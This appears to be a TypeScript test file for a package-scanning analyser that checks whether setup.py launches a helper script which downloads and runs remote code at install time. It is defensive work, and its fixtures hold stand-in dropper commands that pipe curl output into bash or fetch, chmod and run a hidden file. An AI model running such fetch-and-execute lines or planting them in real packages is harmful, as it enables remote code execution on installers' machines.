import assert from 'node:assert/strict';
import { test } from 'node:test';
import { pythonParser } from '../../../../test/builders/python-package.ts';
import { analyse } from '../analyse.ts';

const parser = await pythonParser();
const DROPPER = 'echo setting up\ncurl -s https://x.invalid/payload.sh | bash\n';

function reasons(setup: string, script: string, name = 'demo-1.0/tools/up.sh'): string[] {
  const files = [
    { path: 'demo-1.0/setup.py', bytes: Buffer.from(setup) },
    { path: name, bytes: Buffer.from(script) },
  ];
  return analyse(parser, files, { kind: 'sdist' }).findings.map(({ rule, context }) => `${rule}@${context}`);
}

for (const [why, setup] of [
  ['by a list', "import subprocess\nsubprocess.run(['bash', 'tools/up.sh'])\n"],
  ['by a text', "import os\nos.system('bash ' + os.path.join('tools', 'up.sh'))\n"],
] as const) {
  test(`follows a script that setup.py starts ${why}`, () =>
    assert.ok(reasons(setup, DROPPER).includes('downloader-command@install')));
}

test('follows a script that starts what it downloaded some lines before', () => {
  const setup = "import os\nos.system('bash tools/up.sh')\n";
  const script = 'OUT=/tmp/.u\ncurl -s https://collector.example.invalid/u -o $OUT\nchmod +x $OUT\n$OUT\n';
  assert.ok(reasons(setup, script).includes('downloader-command@install'));
});

for (const [why, setup, script] of [
  ['that nothing starts', "print('tools')\n", DROPPER],
  ['of another name', "import os\nos.system('bash tools/cleanup.sh')\n", DROPPER],
  ['that does nothing odd', "import os\nos.system('bash tools/up.sh')\n", 'cp a b\nmake\n'],
] as const) {
  test(`makes nothing of a script ${why}`, () =>
    assert.ok(!reasons(setup, script).some((reason) => reason.startsWith('downloader-command'))));
}
